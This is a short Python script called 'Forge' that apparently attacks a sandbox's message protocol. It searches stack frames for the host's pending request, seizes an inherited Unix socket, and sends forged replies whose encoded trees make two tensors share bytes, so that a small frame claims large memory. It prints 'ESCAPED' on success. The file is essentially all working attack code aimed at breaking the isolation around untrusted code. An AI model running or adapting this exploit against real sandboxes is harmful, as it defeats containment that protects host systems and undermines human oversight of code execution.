"""Forge: two tensors that share their bytes, so that a small frame claims much memory."""

import socket
import sys

from sandbox.frames import pack, receive, send
from sandbox.wire import decode, encode


def question():
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if type(value) is dict and {"id", "op"} <= set(value):
                return value
        frame = frame.f_back
    print("ESCAPED: the question is no longer found")


link = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=4)
send(link, encode({"id": question()["id"], "value": None, "forbidden": []}))
while True:
    asked = decode(receive(link))
    x = asked["args"][0]
    reply = {"id": asked["id"], "value": 2 * x, "args": [x], "kwargs": {}, "forbidden": []}
    tree = encode(reply).tree
    tree[1][2][1][1][0] = list(tree[1][1][1])
    link.sendall(pack(tree, len(encode(2 * x).blob)) + bytes(encode(2 * x).blob))
